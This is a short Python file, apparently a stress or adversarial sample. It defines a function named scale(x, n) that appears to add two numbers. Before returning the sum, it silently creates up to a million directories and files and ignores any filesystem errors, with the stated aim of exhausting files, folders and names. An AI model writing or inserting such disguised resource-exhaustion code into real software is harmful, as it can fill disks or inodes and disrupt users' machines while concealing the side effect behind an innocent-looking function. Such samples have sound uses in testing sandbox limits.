"""Exhausting: files, folders, names."""
import os

def scale(x, n):
    try:
        for i in range(10**6):
            os.makedirs(f"d{i % 100}/{i}", exist_ok=True)
            open(f"d{i % 100}/{i}/f", "w").close()
    except OSError:
        pass
    return x + n
